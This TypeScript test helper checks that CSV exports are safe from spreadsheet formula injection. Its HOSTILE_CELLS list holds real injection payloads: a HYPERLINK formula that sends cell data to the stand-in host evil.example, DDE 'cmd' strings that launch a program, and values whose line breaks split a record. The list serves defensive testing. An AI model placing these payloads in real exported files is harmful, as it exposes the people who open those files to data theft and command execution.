import { parse } from 'csv-parse/sync'
import { expect } from 'vitest'

/**
 * Values an attacker can put in a username or user agent that a spreadsheet would run, or that
 * break a CSV record apart (a lone LF or CR followed by a formula).
 */
export const HOSTILE_CELLS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  "x\n=cmd|' /C calc'!A0",
  "x\r=cmd|' /C calc'!A0",
  "x\r\n+cmd|' /C calc'!A0",
  'a,b\n@SUM(1)',
  '"quoted"\n-1',
  'line\n\n\n=2',
]

/** Where a spreadsheet starts a formula: =, +, -, @ (and full-width forms), after blanks too, or a leading tab / CR / LF. */
const FORMULA = /^[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/

/**
 * Reads a CSV back with a real parser (strict: every record has the header's column count) and
 * checks every cell of every row: none may start a formula, and every cell with a line break is
 * quoted. Returns the data rows.
 */
export function expectSpreadsheetSafe(csv: string, columns?: number): string[][] {
  const unquotedBreaks: string[] = []
  const records = parse(csv, {
    relax_column_count: false,
    bom: true,
    // Every cell holding a line break must be quoted: a reader that splits lines first (or a
    // lenient one) would otherwise start a record at the break.
    cast: (value, context) => {
      if (/[\r\n]/.test(value) && !context.quoting) unquotedBreaks.push(value)
      return value
    },
  }) as string[][]
  expect(unquotedBreaks, 'cells with a line break written unquoted').toEqual([])
  expect(records.length).toBeGreaterThan(0)
  const width = columns ?? records[0].length
  for (const [r, record] of records.entries()) {
    expect(record, `row ${r}`).toHaveLength(width)
    for (const [c, cell] of record.entries()) {
      expect(FORMULA.test(cell), `row ${r} column ${c} would run as a formula: ${JSON.stringify(cell)}`).toBe(false)
    }
  }
  return records.slice(1)
}
